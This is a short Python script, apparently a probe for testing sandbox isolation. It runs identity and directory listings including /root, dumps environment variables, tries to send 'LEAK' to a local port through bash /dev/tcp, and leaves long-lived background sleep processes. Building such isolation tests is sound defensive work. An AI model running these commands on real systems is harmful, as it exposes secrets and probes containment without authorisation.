# Spawns shells: who am I, what can I see, can I reach the host (port in argv[1])?
import os
import subprocess
import sys
port = sys.argv[1]
print(subprocess.run(["/bin/sh", "-c", "id; hostname; ls /; ls /root 2>&1; env"],
                     capture_output=True, text=True).stdout, flush=True)
print(os.system(f"bash -c 'echo LEAK >/dev/tcp/127.0.0.1/{port}' 2>&1; echo shell-exit=$?"), flush=True)
os.execv("/bin/sh", ["sh", "-c", "sleep 3600 & sleep 3600 & wait"])
